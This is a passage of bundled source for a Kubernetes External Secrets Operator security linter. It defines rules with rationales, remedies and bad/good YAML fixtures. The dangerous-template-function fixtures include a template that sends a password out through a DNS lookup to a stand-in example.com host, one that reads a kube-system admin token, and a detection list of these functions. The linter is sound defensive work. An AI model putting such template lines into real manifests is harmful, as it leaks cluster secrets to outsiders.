    const own = ambient.instead === void 0 ? "" : `; its own: ${ambient.instead}`;
    yield {
      path: [...connected.path, ...ambient.field === void 0 ? [] : keysOf(ambient.field)],
      message: `it signs in to ${titleOf(connected)} with ${ambient.as}${worse}${own}`,
      ...worse !== "" && { severity: "medium" }
    };
  }
});
function whyWorse(manifest, ambient, world) {
  if (manifest.kind === "ClusterSecretStore") return isOpenToAll(manifest) ? ", and every namespace can use it" : "";
  const tenants2 = manifest.namespace === void 0 ? [] : tenantsOf(ambient, world);
  return tenants2.length > 1 ? `, which ${shorten(tenants2)} share` : "";
}
var NAMED3 = 3;
var shorten = (names) => names.length > NAMED3 ? `${names.slice(0, NAMED3).join(", ")} and ${names.length - NAMED3} more` : names.join(", ");

// src/check/store-credentials.ts
var credentialsIn = (secret, world) => (byName(world).get(secret.name) ?? []).filter((named2) => isNamed(named2, secret));
var byName = remember((world) => {
  const manifests = CONNECTED_KINDS.flatMap((kind) => world.of(kind));
  return Map.groupBy(manifests.flatMap(credentialsNamedBy), ({ name }) => name);
});

// src/model/eso/secret-content.ts
function readableKeys(secret) {
  if (asMapping(secret.get("sops"))) return [];
  const plain = Object.entries(asMapping(secret.get("stringData")) ?? {});
  const encoded = Object.entries(asMapping(secret.get("data")) ?? {}).filter(
    ([key]) => !plain.some(([other]) => other === key)
  );
  return [
    ...plain.flatMap(([key, value]) => isMaterial(value) ? { key, path: ["stringData", key] } : []),
    ...encoded.flatMap(([key, value]) => isMaterial(decoded(value)) ? { key, path: ["data", key] } : [])
  ];
}
function decoded(value) {
  const text = asText(value)?.replace(/\s/g, "");
  if (text === void 0 || isPlaceholder(text) || !BASE64.test(text)) return void 0;
  return Buffer.from(text, "base64").toString("utf8");
}
var BASE64 = /^(?:[\w+/-]{4})*(?:[\w+/-]{2,3}={0,2})?$/;
function isMaterial(value) {
  const text = (typeof value === "number" ? String(value) : asText(value))?.trim();
  return text !== void 0 && text !== "" && !isPlaceholder(text) && !ELSEWHERE.test(text) && !isStandIn(text);
}
var ELSEWHERE = /^(?:ENC\[|ref\+|secretref\+|vault:|>>vault:|avp:|\$\()/;
var isStandIn = (text) => STAND_IN.test(text) || /^(.)\1*$/.test(text) || /^%\w+%$/.test(text);
var STAND_IN = /^(?:(?:please[-_ ]?)?(?:change|replace|fill|insert|add|put|set|override|update|enter)[-_ ]?(?:me|this|it|in|your|here|with|by|the)?(?:[-_ ].*)?|.*(?:change|replace)[-_ ]?me.*|(?:your|my|some|the)[-_ ].*|to[-_ ]?do.*|tbd|dummy.*|fake.*|mock.*|example.*|sample.*|place[-_ ]?holder.*|redacted|none|null|undefined|empty|x{3,}.*|\.{3}|_{2,}\w*_{2,})$/i;

// src/rules/credentials-in-rendered-secret.ts
var credentials_in_rendered_secret_default = defineRule({
  id: "credentials-in-rendered-secret",
  title: "The credential of a store is written in a manifest",
  severities: ["critical"],
  kinds: ["core/Secret"],
  needs: ["connections"],
  why: "Everybody who can read the repository, its history, a fork or the output of a build has the key to the secret store, and through it every secret behind it. Base64 hides nothing, and removing the line later does not take it out of the history.",
  remedy: "Revoke this credential now: it counts as known. Then sign in with a short-lived identity where the provider has one, such as a `serviceAccountRef`; else keep the Secret out of git: create it by hand once, or encrypted by sops or as a SealedSecret.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/configuration/secret/#information-security-for-secrets"
  ],
  guide: ["TM2"],
  bad: [
    `
apiVersion: v1
kind: Secret
metadata: { name: vault-token, namespace: shop }
type: Opaque
stringData:
  note: not asked for
  token: s3cr3t-of-the-example # finding: it holds the token that SecretStore shop/vault signs in to Vault with, readable in the manifest
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { tokenSecretRef: { name: vault-token, key: token } }
`,
    `
# Base64 is no protection, and a cluster-wide store takes its Secret from the namespace it names.
apiVersion: v1
kind: Secret
metadata: { name: aws, namespace: eso }
data:
  id: QUtJQS1vZi10aGUtZXhhbXBsZQ==
  key: bm90LWEtcmVhbC1rZXk= # finding: it holds the access key that ClusterSecretStore aws signs in to AWS with
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: aws }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth:
        secretRef:
          accessKeyIDSecretRef: { name: aws, namespace: eso, key: id }
          secretAccessKeySecretRef: { name: aws, namespace: eso, key: key }
`,
    `
# Providers without a keyless way and generators are no exception; without a key, the whole Secret counts.
apiVersion: v1
kind: Secret
metadata: { name: connect, namespace: shop }
stringData:
  token: t0ken-of-the-example # finding: it holds the Connect token that SecretStore shop/onepassword signs in to 1Password Connect with
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: onepassword, namespace: shop }
spec:
  provider:
    onepassword:
      connectHost: http://connect:8080
      vaults: { shop: 1 }
      auth: { secretRef: { connectTokenSecretRef: { name: connect, key: token } } }
---
apiVersion: v1
kind: Secret
metadata: { name: github-app, namespace: shop }
stringData:
  key.pem: key-of-the-example # finding: GitHub App's private key that GithubAccessToken shop/github signs in to GitHub App with
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: GithubAccessToken
metadata: { name: github, namespace: shop }
spec:
  appID: "1"
  installID: "2"
  auth: { privateKey: { secretRef: { name: github-app } } }
`
  ],
  good: [
    `
# Encrypted, filled in later, still to be put there, or of another namespace.
apiVersion: v1
kind: Secret
metadata: { name: encrypted, namespace: shop }
stringData: { token: "ENC[AES256_GCM,data:AbC=,iv:x,tag:y,type:str]" }
sops: { version: 3.9.0 }
---
apiVersion: v1
kind: Secret
metadata: { name: later, namespace: shop }
stringData: { token: "\${VAULT_TOKEN}", secret-id: "<path:vault/data/shop#token>", password: changeme }
---
apiVersion: v1
kind: Secret
metadata: { name: elsewhere, namespace: test }
stringData: { token: t0ken-of-the-example }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        tokenSecretRef: { name: encrypted, key: token }
        appRole: { roleId: shop, secretRef: { name: later, key: secret-id } }
        userPass: { username: shop, secretRef: { name: elsewhere, key: token } }
        ldap: { username: shop, secretRef: { name: later, key: password } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    doppler: { auth: { secretRef: { dopplerToken: { name: later, key: token } } } }
`,
    `
# The half of a credential that is no secret, and a certificate without its key.
apiVersion: v1
kind: Secret
metadata: { name: aws, namespace: shop }
stringData: { id: id-of-the-example }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth:
        secretRef:
          accessKeyIDSecretRef: { name: aws, key: id }
          secretAccessKeySecretRef: { name: aws-secret, key: key }
---
apiVersion: v1
kind: Secret
metadata: { name: client, namespace: shop }
stringData: { tls.crt: certificate-of-the-example }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      tls: { certSecretRef: { name: client, key: tls.crt }, keySecretRef: { name: client-key, key: tls.key } }
      auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  *check(secret, world) {
    const uses = credentialsIn(secret, world);
    if (uses.length === 0) return;
    for (const { key, path } of readableKeys(secret)) {
      const [use] = uses.filter((named2) => named2.key === void 0 || named2.key === key);
      if (use)
        yield {
          path,
          message: `it holds the ${use.what} that ${nameOf(use.manifest)} signs in to ${titleOf(use.connected)} with, readable in the manifest`,
          related: [{ manifest: use.manifest, path: use.path, message: "used here" }]
        };
    }
  }
});

// src/providers/references.ts
var PARTS = /* @__PURE__ */ new Set(["audiences", "key", "name", "namespace", "type"]);
function namespacedReferences(store) {
  const provider = providerOf(store);
  return provider ? [...referencesIn(provider.config, provider.path, [])] : [];
}
function* referencesIn(block, base, keys) {
  const namespace = asText(block.namespace);
  if (namespace && !isPlaceholder(namespace) && isReference(block, keys)) {
    const name = asText(block.name);
    yield {
      path: [...base, ...keys, "namespace"],
      field: keys.join(".").replace(/\.(\d+)\b/g, "[$1]"),
      namespace,
      name: name && !isPlaceholder(name) ? name : void 0,
      isAuthority: keys.at(-1) === "caProvider"
    };
  }
  for (const [steps, inner] of blocksIn(block)) yield* referencesIn(inner, base, [...keys, ...steps]);
}
var isReference = (block, keys) => typeof keys.at(-1) === "string" && ("name" in block || "key" in block) && Object.keys(block).every((key) => PARTS.has(key));
var blocksIn = (block) => Object.entries(block).flatMap(([key, value]) => {
  const items = Array.isArray(value) ? value.map((item, i) => [[key, i], item]) : [[[key], value]];
  return items.flatMap(([steps, item]) => {
    const inner = asMapping(item);
    return inner ? [[steps, inner]] : [];
  });
});

// src/rules/cross-namespace-reference.ts
var cross_namespace_reference_default = defineRule({
  id: "cross-namespace-reference",
  title: "A store takes its credential from another namespace",
  severities: ["low", "high"],
  kinds: STORE_KINDS,
  needs: ["stores"],
  why: "A namespace on a reference of a ClusterSecretStore makes one credential serve every namespace that may use the store: nobody uses a right of their own, and the provider cannot tell the teams apart. That is often meant, and belongs on the list of what an audit looks at. In a SecretStore it reaches for a credential of somebody else, and only some providers refuse it.",
  remedy: "In a ClusterSecretStore leave `namespace` out of the reference where each namespace can bring a credential or ServiceAccount of its own, which is then looked up where the ExternalSecret is; else keep `spec.conditions` tight. In a SecretStore refer to objects of its own namespace.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["NI1", "NI3"],
  bad: [
    `
# One line for each namespace that a ClusterSecretStore takes something from.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  provider:
    vault:
      server: https://vault.example.com
      namespace: teams/shop
      auth:
        namespace: teams
        kubernetes:
          role: shop
          serviceAccountRef:
            name: vault
            namespace: eso # finding: everyone who may use the store works with vault of namespace eso (auth.kubernetes.serviceAccountRef)
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: keys }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth:
        secretRef:
          accessKeyIDSecretRef:
            name: aws
            namespace: eso # finding: with aws of namespace eso (auth.secretRef.accessKeyIDSecretRef, auth.secretRef.secretAccessKeySecretRef)
            key: id
          secretAccessKeySecretRef:
            name: aws
            namespace: eso
            key: secret
          sessionTokenSecretRef:
            name: aws-session
            namespace: sessions # finding: with aws-session of namespace sessions
            key: token
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        tokenSecretRef:
          name: vault
          namespace: eso # finding[high]: it refers to vault of namespace eso (auth.tokenSecretRef), and a SecretStore may use what its own namespace shop holds
          key: token
      tls:
        certSecretRef:
          name: client
          namespace: eso # finding[high]: (tls.certSecretRef)
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: header, namespace: shop }
spec:
  provider:
    webhook:
      url: https://secrets.example.com
      secrets:
        - name: login
          secretRef:
            name: login
            namespace: eso # finding[high]: (secrets[0].secretRef)
`
  ],
  good: [
    `
# Without a namespace each user of the store brings a Secret of their own.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: referent }
spec:
  provider:
    vault:
      server: https://vault.example.com
      namespace: teams/shop
      auth:
        namespace: teams
        tokenSecretRef: { name: vault, key: token }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      namespace: other
      auth:
        tokenSecretRef: { name: vault, namespace: shop, key: token }
`,
    `
# Patterns are no references, a certificate authority is no credential, and what is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: patterns }
spec:
  provider:
    crd:
      resource: { group: example.com, version: v1, kind: Database }
      whitelist:
        rules: [{ name: ^db-, namespace: ^shop$ }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: later }
spec:
  provider:
    vault:
      server: https://vault.example.com
      caProvider: { type: ConfigMap, name: ca, namespace: eso, key: ca.crt }
      auth:
        tokenSecretRef: { name: vault, namespace: "\${NAMESPACE}", key: token }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: unplaced }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        tokenSecretRef: { name: vault, namespace: eso, key: token }
`
  ],
  *check(store) {
    const references = namespacedReferences(store).filter(({ isAuthority }) => !isAuthority);
    if (store.kind === "ClusterSecretStore") yield* shared(references);
    else yield* foreign(store, references);
  },
  fix: ({ manifest, path }) => manifest?.kind === "SecretStore" ? unsafe(COPY, without(path)) : void 0
});
var COPY = "Is there a credential of the same name in the store's own namespace?";
function* shared(references) {
  for (const group of Map.groupBy(references, ({ namespace }) => namespace).values()) {
    const [first] = group;
    if (!first) continue;
    const fields = group.map(({ field }) => field).join(", ");
    yield {
      path: first.path,
      message: `everyone who may use the store works with ${namesOf(group)} of namespace ${first.namespace} (${fields})`
    };
  }
}
function* foreign(store, references) {
  const own = store.namespace;
  if (own === void 0 || isPlaceholder(own)) return;
  for (const reference of references)
    if (reference.namespace !== own)
      yield {
        path: reference.path,
        severity: "high",
        message: `it refers to ${namesOf([reference])} of namespace ${reference.namespace} (${reference.field}), and a SecretStore may use what its own namespace ${own} holds`
      };
}
var namesOf = (references) => [...new Set(references.map(({ name }) => name ?? "a credential"))].join(", ");

// src/model/eso/go-template.ts
var TOKEN = /(?<end>\}\})|"(?:[^"\\\n]|\\.)*"|`[^`]*`|'(?:[^'\\\n]|\\.)*'|(?<open>["'`])|\.?\d[\w.]*|(?<data>\.[\p{L}\p{Nd}_]*|\$[\p{L}\p{Nd}_]*)|(?<word>[\p{L}_][\p{L}\p{Nd}_]*)|[\s\S]/uy;
var START = /\{\{(?:-(?=\s))?\s*/g;
var COMMENT = /\/\*[\s\S]*?\*\//y;
var KEYWORDS = new Set("if else end range with block define template break continue nil true false".split(" "));
function actionsOf(text) {
  const actions = [];
  START.lastIndex = 0;
  for (let start = START.exec(text); start; start = START.exec(text)) {
    COMMENT.lastIndex = START.lastIndex;
    const action = COMMENT.test(text) ? commentAt(text, COMMENT.lastIndex) : actionAt(text, START.lastIndex);
    if (!action) break;
    actions.push(...action.found);
    START.lastIndex = action.end;
  }
  return actions;
}
function commentAt(text, from) {
  const end = text.indexOf("}}", from);
  return end < 0 ? void 0 : { found: [], end: end + 2 };
}
function actionAt(text, from) {
  const functions = [];
  let readsData = false;
  TOKEN.lastIndex = from;
  for (let token = TOKEN.exec(text)?.groups; token; token = TOKEN.exec(text)?.groups) {
    if (token.end !== void 0) return { found: [{ functions, readsData }], end: TOKEN.lastIndex };
    if (token.open !== void 0) return void 0;
    if (token.data !== void 0) readsData = true;
    if (token.word !== void 0 && !KEYWORDS.has(token.word)) functions.push(token.word);
  }
  return void 0;
}

// src/model/eso/templates.ts
function templatePathOf(manifest) {
  const spec = specPathOf(manifest);
  if (!spec) return void 0;
  return isPush(manifest) ? [...spec, "template"] : [...spec, "target", "template"];
}
var isPush = ({ groupKind }) => PUSHING_KINDS.includes(groupKind);
function templatesOf(manifest) {
  const spec = specPathOf(manifest);
  const template = templatePathOf(manifest);
  if (!spec || !template) return [];
  return [
    ...ofTemplate(manifest, template),
    ...ofRewrites(manifest, [...spec, isPush(manifest) ? "dataTo" : "dataFrom"])
  ];
}
function ofTemplate(manifest, path) {
  if (manifest.get(...path, "engineVersion") === "v1") return [];
  const maps = [["data"], ["metadata", "labels"], ["metadata", "annotations"]];
  return [
    ...maps.flatMap((keys) => valuesAt(manifest, [...path, ...keys])),
    ...asList(manifest.get(...path, "templateFrom")).flatMap(
      (_, i) => textAt(manifest, [...path, "templateFrom", i, "literal"])
    )
  ];
}
var valuesAt = (manifest, path) => Object.keys(asMapping(manifest.get(...path)) ?? {}).flatMap((key) => textAt(manifest, [...path, key]));
var ofRewrites = (manifest, list) => asList(manifest.get(...list)).flatMap(
  (_, i) => asList(manifest.get(...list, i, "rewrite")).flatMap(
    (_2, j) => textAt(manifest, [...list, i, "rewrite", j, "transform", "template"])
  )
);
function textAt(manifest, path) {
  const text = asText(manifest.get(...path));
  return text === void 0 ? [] : [{ path, text }];
}

// src/rules/dangerous-template-function.ts
var dangerous_template_function_default = defineRule({
  id: "dangerous-template-function",
  title: "A template calls a function that reads, resolves or leaks secret data",
  severities: ["high", "medium"],
  kinds: [...FETCHING_KINDS, ...PUSHING_KINDS],
  why: "Templates run in the operator, with its network and its rights. getHostByName carries a secret value out as a host name that is looked up (CVE-2026-34984), getSecretKey reads Secrets of other namespaces (CVE-2026-22822), and what fail is given stands in an event that more people may read than the Secret.",
  remedy: "Remove the call. Upgrade External Secrets Operator: getSecretKey is gone with 1.2.0 and getHostByName with 2.3.0. Give `fail` a fixed text; the key at fault is named in the error anyway.",
  references: [
    "https://github.com/advisories/GHSA-r2pg-r6h7-crf3",
    "https://github.com/advisories/GHSA-77v3-r3jw-j2v2",
    "https://external-secrets.io/latest/guides/templating/"
  ],
  guide: ["AC3"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v1.1.0" }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: leak, namespace: shop }
spec:
  target:
    template:
      metadata:
        annotations:
          address: '{{ printf "%s.example.com" .password | getHostByName }}' # finding: getHostByName looks up a name, and so can carry a secret value out through DNS
      data:
        other: '{{ getSecretKey "kube-system" "admin" "token" }}' # finding: getSecretKey reads Secrets of other namespaces
      templateFrom:
        - literal: | # finding: fail puts what it is given into an event
            {{- if not .user }}{{ fail (printf "no user in %v" .) }}{{ end }}
            user: {{ .user }}
  dataFrom:
    - extract: { key: shop }
      rewrite:
        - transform: { template: "{{ .value | getHostByName }}" } # finding: getHostByName looks up a name
`,
    `
# No operator in the set says its version.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: leak, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: shop } }
  template:
    data:
      address: "{{ getHostByName .host }}" # finding[medium]: getHostByName looks up a name, and so can carry a secret value out through DNS, unless the operator is 2.3.0 or newer
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# This operator has neither function, and no version has env; a template that calls them is not rendered.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: gone, namespace: shop }
spec:
  target:
    template:
      data:
        address: "{{ getHostByName .host }}"
        token: '{{ getSecretKey "a" "b" "c" }}'
        environment: '{{ env "HOME" }}'
  dataFrom: [{ extract: { key: shop } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: words, namespace: shop }
spec:
  target:
    template:
      data:
        text: 'fail .password {{ "getHostByName" | upper }} {{/* fail .password */}} {{ .fail }} {{ $fail := .a }}'
        fixed: '{{ if not .user }}{{ fail "no user" }}{{ end }}'
        usual: '{{ .ca | b64dec | toYaml | nindent 2 }} {{ htpasswd .user .password }}'
  dataFrom: [{ extract: { key: shop } }]
`
  ],
  *check(manifest, world) {
    for (const { path, text } of templatesOf(manifest)) {
      const actions = actionsOf(text);
      for (const { name, does, range, isDangerous } of DANGEROUS) {
        const state = actions.some(isDangerous) ? runsIn(range, world) : "no";
        if (state === "no") continue;
        const isSure = state === "yes" || range.until === void 0;
        yield {
          path,
          discriminator: name,
          message: isSure ? `${name} ${does}` : `${name} ${does}, unless the operator is ${range.until} or newer`,
          ...!isSure && { severity: "medium" }
        };
      }
    }
  }
});
var calls = (name) => ({ functions }) => functions.includes(name);
var DANGEROUS = [
  {
    name: "getHostByName",
    does: "looks up a name, and so can carry a secret value out through DNS",
    range: { until: "2.3.0" },
    isDangerous: calls("getHostByName")
  },
  {
    name: "getSecretKey",
    does: "reads Secrets of other namespaces",
    range: { since: "0.20.2", until: "1.2.0" },
    isDangerous: calls("getSecretKey")
  },
  {
    name: "fail",
    does: "puts what it is given into an event, and here that is data of the Secret",
    range: {},
    isDangerous: (action) => calls("fail")(action) && action.readsData
  }
];

// src/rules/default-service-account.ts
var default_service_account_default = defineRule({
  id: "default-service-account",
  title: "A component of the operator runs as the default ServiceAccount",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "Whatever is bound to `default` for the operator belongs to every pod of the namespace that names no ServiceAccount: one that is started there for a minute reads the Secrets that the operator reads.",
  remedy: "Let the operator chart make a ServiceAccount for each component (`serviceAccount.create: true`, the same under `webhook` and `certController`), or name one with `serviceAccount.name`: with `create: false` and no name it is `default`. Then look for bindings that still name `default`.",
  references: [
    "https://kubernetes.io/docs/concepts/security/service-accounts/#default-service-accounts",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM6"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: default # finding: the controller runs as ServiceAccount default, as does every pod of the namespace that names none
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Nobody named one, or by the old name of the field.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec: # finding: the webhook runs as ServiceAccount default
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-cert-controller, namespace: eso }
spec:
  template:
    spec:
      serviceAccount: default # finding: the cert-controller runs as ServiceAccount default
      containers:
        - { name: certs, image: "registry.example.com/mirror/eso:v2.9.0", args: [certcontroller] }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# Filled in later.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: other }
spec:
  template:
    spec:
      serviceAccountName: \${SERVICE_ACCOUNT}
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# Not the operator's.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "registry.example.com/shop:v1" }
`
  ],
  *check(manifest, { eso }) {
    const component = eso.componentOf(manifest);
    if (component?.pod.serviceAccountName !== "default") return;
    yield {
      path: serviceAccountPath(component.pod),
      message: `the ${component.role} runs as ServiceAccount default, as does every pod of the namespace that names none`
    };
  },
  fix(fault) {
    const role = fault.manifest && fault.world.eso.componentOf(fault.manifest)?.role;
    if (!role) return void 0;
    return unsafe(IDENTITY, chartValues(fault, { [`${CHART_KEYS[role]}serviceAccount.create`]: true }));
  }
});
var IDENTITY = "Is a role of the cluster or of a cloud bound to ServiceAccount default for the operator? It has to be bound to the new one.";

// src/rules/deprecated-api-version.ts
var deprecated_api_version_default = defineRule({
  id: "deprecated-api-version",
  title: "An object is written in an API version that the operator does not serve",
  severities: ["high", "low"],
  kinds: ESO_KINDS,
  why: "The API server refuses an object whose version is not served, and an update of the operator that ends a version stops every delivery that still uses it. What is then changed in a hurry, or by hand in the cluster, is reviewed by nobody; and policies that are written for v1 may not look at older versions.",
  remedy: "Write `external-secrets.io/v1` for ExternalSecret, SecretStore and their cluster-wide kinds (served from ESO 0.16.0 on); PushSecret, ClusterPushSecret and the generators stay at `v1alpha1`. Where the operator is older than that, update it first. If another team installs the operator, ask it which version runs.",
  references: [
    "https://external-secrets.io/latest/introduction/deprecation-policy/",
    "https://kubernetes.io/docs/tasks/extend-kubernetes/custom-resources/custom-resource-definition-versioning/"
  ],
  guide: ["AC1"],
  bad: [
    `
# Nobody says which version runs.
apiVersion: external-secrets.io/v1beta1 # finding[low]: external-secrets.io/v1beta1 of ExternalSecret is not served from ESO 0.17.0 on, and the set does not say which version runs
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault } }
---
apiVersion: external-secrets.io/v1 # finding[low]: external-secrets.io/v1 of PushSecret is served by no version of ESO that is known here
kind: PushSecret
metadata: { name: push, namespace: shop }
spec: { secretStoreRefs: [{ name: vault }], selector: { secret: { name: db } } }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v0.17.0" }
---
apiVersion: external-secrets.io/v1beta1 # finding: external-secrets.io/v1beta1 of ClusterSecretStore is not served from ESO 0.17.0 on, and ESO 0.17.0 runs here
kind: ClusterSecretStore
metadata: { name: vault }
spec: { provider: { vault: { server: https://vault.example.com } } }
---
apiVersion: external-secrets.io/v1beta1 # finding: external-secrets.io/v1beta1 of PushSecret is served by no version of ESO that is known here, and ESO 0.17.0 runs here
kind: PushSecret
metadata: { name: push, namespace: shop }
spec: { secretStoreRefs: [{ name: vault }], selector: { secret: { name: db } } }
`,
    `
# Too new for an old operator.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v0.15.1" }
---
apiVersion: external-secrets.io/v1 # finding: external-secrets.io/v1 of SecretStore is not served before ESO 0.16.0, and ESO 0.15.1 runs here
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec: { provider: { vault: { server: https://vault.example.com } } }
`,
    `
# The CRD in the set decides.
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: secretstores.external-secrets.io }
spec:
  group: external-secrets.io
  names: { kind: SecretStore, plural: secretstores }
  scope: Namespaced
  versions:
    - { name: v1, served: true, storage: true }
    - { name: v1beta1, served: false, storage: false }
---
apiVersion: external-secrets.io/v1beta1 # finding: and the CRD in the set serves v1
kind: SecretStore
metadata: { name: old, namespace: shop }
spec: { provider: { vault: { server: https://vault.example.com } } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: push, namespace: shop }
spec: { secretStoreRefs: [{ name: vault }], selector: { secret: { name: db } } }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: UUID
metadata: { name: id, namespace: shop }
---
apiVersion: external-secrets.io/\${API_VERSION}
kind: ExternalSecret
metadata: { name: later, namespace: shop }
`,
    `
# 0.16 serves both.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v0.16.2" }
---
apiVersion: external-secrets.io/v1beta1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec: { provider: { vault: { server: https://vault.example.com } } }
`,
    `
# The operator chart with crds.unsafeServeV1Beta1.
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: externalsecrets.external-secrets.io }
spec:
  group: external-secrets.io
  names: { kind: ExternalSecret, plural: externalsecrets }
  scope: Namespaced
  versions:
    - { name: v1, served: true, storage: true }
    - { name: v1beta1, served: true, storage: false }
---
apiVersion: external-secrets.io/v1beta1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault } }
`
  ],
  *check(object, world) {
    const unserved = unservedVersion(object, world);
    if (!unserved) return;
    yield {
      path: ["apiVersion"],
      message: `${object.apiVersion} of ${object.kind} ${when(unserved)}, and ${unserved.says}`,
      ...!unserved.isSure && { severity: "low" }
    };
  },
  fix({ manifest, path, world }) {
    if (!manifest || !servableVersions(manifest.groupKind, [], world).includes("v1")) return void 0;
    const changes = setting(path, `${groupOf(manifest.apiVersion)}/v1`);
    return unservedVersion(manifest, world)?.isSure ? safe(changes) : unsafe(SERVED, changes);
  }
});
var SERVED = "Does the operator of the cluster serve v1, as it does from ESO 0.16.0 on?";
function when({ range }) {
  if (range?.until !== void 0) return `is not served from ESO ${range.until} on`;
  if (range?.since !== void 0) return `is not served before ESO ${range.since}`;
  return range ? "is not served" : "is served by no version of ESO that is known here";
}

// src/rules/developer-can-write-cluster-scoped-eso.ts
var developer_can_write_cluster_scoped_eso_default = defineRule({
  id: "developer-can-write-cluster-scoped-eso",
  title: "Somebody who is no operator can write the operator's cluster-scoped kinds",
  severities: ["critical"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "These kinds speak for every namespace. Whoever writes one can take the conditions off a ClusterSecretStore and fetch what it may fetch, send its credential to a server of their own, put Secrets into any namespace, or push those of all namespaces out.",
  remedy: "Take clustersecretstores, clusterexternalsecrets, clusterpushsecrets and clustergenerators out of the role, or bind it to operators only and name them under `operators` in this tool's config. Where it comes through the built-in edit or admin, set `rbac.aggregateToEdit: false` and `rbac.aggregateToAdmin: false` (2.8.0 on) in the operator chart, and bind those roles per namespace.",
  references: [
    "https://external-secrets.io/latest/guides/threat-model/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["RM1", "TM4", "TM6"],
  supersedes: ["wildcard-permissions"],
  bad: [
    `
# One finding for a rule; it names all of these kinds that it gives.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
